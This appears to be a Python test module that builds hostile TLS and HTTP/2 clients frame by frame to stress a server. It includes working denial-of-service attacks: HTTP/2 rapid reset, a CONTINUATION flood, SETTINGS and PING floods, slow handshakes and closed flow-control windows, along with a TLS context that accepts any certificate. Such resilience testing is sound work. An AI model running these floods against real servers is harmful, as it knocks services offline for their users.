"""Hostile clients of TLS and HTTP/2, frame by frame (RFC 9113).

Used by `hostile_http`. Header blocks are literals without indexing and without Huffman codes (RFC 7541), so
that no compression is needed to write them.
"""

from __future__ import annotations

import asyncio
import ssl
import struct
from collections import Counter
from collections.abc import Iterable, Mapping
from typing import Final

from tests.faults.hostile_clients import PAUSE_S, TRICKLE_S, Attack, Scene, connected, every, trickle

PREFACE: Final = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 7, 8, 9
END_STREAM, END_HEADERS, ACK = 1, 4, 1
CANCEL: Final = 8
NAMES: Final = {RST_STREAM: "reset", GOAWAY: "goaway", HEADERS: "headers"}
BURST: Final = 20
"""Frames that are sent together in a flood, of each connection, every PAUSE_S."""


def frame(kind: int, stream: int, payload: bytes = b"", flags: int = 0) -> bytes:
    """Encode a frame."""
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def header_block(fields: Iterable[tuple[bytes, bytes]]) -> bytes:
    """Encode headers whose names and values are shorter than 127 bytes."""
    return b"".join(b"\0%c%s%c%s" % (len(name), name, len(value), value) for name, value in fields)


def call(path: bytes = b"/v1/api/hostile/one/async", method: bytes = b"POST") -> bytes:
    """Encode the headers of a request."""
    pseudo = ((b":method", method), (b":scheme", b"https"), (b":authority", b"localhost"), (b":path", path))
    return header_block([*pseudo, (b"content-type", b"application/json")])


def untrusting() -> ssl.SSLContext:
    """Return a context that accepts any certificate and offers HTTP/2."""
    context = ssl.create_default_context()
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    context.set_alpn_protocols(["h2"])
    return context


def client_hello() -> bytes:
    """Return the first bytes of a TLS handshake."""
    outgoing = ssl.MemoryBIO()
    half = untrusting().wrap_bio(ssl.MemoryBIO(), outgoing, server_hostname="localhost")
    try:
        half.do_handshake()
    except ssl.SSLWantReadError:
        return outgoing.read()
    raise AssertionError("a handshake needs the server")


class Connection:
    """An HTTP/2 connection, which counts the frames that end its streams."""

    def __init__(
        self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter, seen: Counter[str]
    ) -> None:
        self._reader, self._writer, self._seen = reader, writer, seen
        self.stream = 1
        self.gone = False
        """Whether the server has sent GOAWAY or has closed the connection."""
        self._reading = asyncio.create_task(self._read())

    async def _read(self) -> None:
        try:
            while True:
                head = await self._reader.readexactly(9)
                payload = await self._reader.readexactly(int.from_bytes(head[:3], "big"))
                if head[3] in NAMES:
                    self._seen[NAMES[head[3]]] += 1
                if head[3] == SETTINGS and not head[4] & ACK:
                    self._writer.write(frame(SETTINGS, 0, flags=ACK))
                self.gone |= head[3] == GOAWAY
                del payload
        except (OSError, asyncio.IncompleteReadError):
            self._seen["closed"] += not self.gone
            self.gone = True

    def write(self, data: bytes) -> None:
        self._writer.write(data)

    async def drain(self) -> None:
        await self._writer.drain()

    def next_stream(self) -> int:
        self.stream += 2
        return self.stream - 2

    async def close(self) -> None:
        self._reading.cancel()
        self._writer.transport.abort()
        await asyncio.gather(self._reading, return_exceptions=True)


async def opened(scene: Scene, number: int, seen: Counter[str]) -> Connection:
    """Return a connection that has sent its settings."""
    reader, writer = await asyncio.open_connection(sock=await connected(scene, number))
    plain = writer.transport
    try:
        await writer.start_tls(untrusting(), server_hostname="localhost")
    except BaseException:
        plain.abort()  # asyncio would wait half a minute for the end of the handshake
        raise
    seen["opened"] += 1
    writer.write(PREFACE + frame(SETTINGS, 0))
    return Connection(reader, writer, seen)


async def slow_handshakes(scene: Scene, clients: int, seen: Counter[str]) -> None:
    """Send a TLS handshake byte by byte."""
    hello = client_hello()

    async def one(number: int) -> None:
        await trickle(await connected(scene, number), hello[:1], hello[1:], seen)

    await every(clients, one)


async def endless_streams(scene: Scene, clients: int, seen: Counter[str]) -> None:
    """Send the bodies of 100 requests at once on each connection, byte by byte."""

    async def one(number: int) -> None:
        connection = await opened(scene, number, seen)
        try:
            streams = [connection.next_stream() for _ in range(100)]
            for stream in streams:
                connection.write(frame(HEADERS, stream, call(), END_HEADERS))
            while not connection.gone:
                for stream in streams:
                    connection.write(frame(DATA, stream, b" "))
                await connection.drain()
                await asyncio.sleep(TRICKLE_S)
        finally:
            await connection.close()

    await every(clients, one)


async def rapid_reset(scene: Scene, clients: int, seen: Counter[str]) -> None:
    """Open streams and reset them at once, which frees their places (CVE-2023-44487)."""

    async def one(number: int) -> None:
        connection = await opened(scene, number, seen)
        try:
            while not connection.gone:
                for _ in range(BURST):
                    stream = connection.next_stream()
                    connection.write(frame(HEADERS, stream, call(), END_HEADERS))
                    connection.write(frame(RST_STREAM, stream, struct.pack(">I", CANCEL)))
                seen["streams"] += BURST
                await connection.drain()
                await asyncio.sleep(PAUSE_S)
        finally:
            await connection.close()

    await every(clients, one)


async def settings_flood(scene: Scene, clients: int, seen: Counter[str]) -> None:
    """Send SETTINGS and PING, each of which the server has to acknowledge."""

    async def one(number: int) -> None:
        connection = await opened(scene, number, seen)
        try:
            while not connection.gone:
                each = frame(SETTINGS, 0, struct.pack(">HI", 4, 65_535)) + frame(PING, 0, b"12345678")
                connection.write(each * BURST)
                seen["frames"] += 2 * BURST
                await connection.drain()
                await asyncio.sleep(PAUSE_S)
        finally:
            await connection.close()

    await every(clients, one)


async def continuation_flood(scene: Scene, clients: int, seen: Counter[str]) -> None:
    """Send headers that do not end (CVE-2024-27316)."""

    async def one(number: int) -> None:
        connection = await opened(scene, number, seen)
        try:
            connection.write(frame(HEADERS, 1, call()))
            block = header_block([(b"x-more", b"y" * 100)]) * 10
            while not connection.gone:
                connection.write(frame(CONTINUATION, 1, block) * BURST)
                seen["frames"] += BURST
                await connection.drain()
                await asyncio.sleep(PAUSE_S)
        finally:
            await connection.close()

    await every(clients, one)


async def closed_windows(scene: Scene, clients: int, seen: Counter[str]) -> None:
    """Ask for 50 runs at once on each connection, and allow no byte of the responses."""

    async def one(number: int) -> None:
        connection = await opened(scene, number, seen)
        try:
            connection.write(frame(SETTINGS, 0, struct.pack(">HI", 4, 0)))
            for _ in range(50):
                block = call(scene.waiting.encode(), b"GET")
                connection.write(frame(HEADERS, connection.next_stream(), block, END_HEADERS | END_STREAM))
            while not connection.gone:
                await asyncio.sleep(TRICKLE_S)
                await connection.drain()
        finally:
            await connection.close()

    await every(clients, one)


ATTACKS: Mapping[str, tuple[Attack, int]] = {
    "slow handshakes": (slow_handshakes, 1_000),
    "endless streams": (endless_streams, 10),
    "rapid reset": (rapid_reset, 5),
    "settings and pings": (settings_flood, 5),
    "endless headers": (continuation_flood, 5),
    "closed windows": (closed_windows, 10),
}
"""Attacks over TLS, with their numbers of connections."""
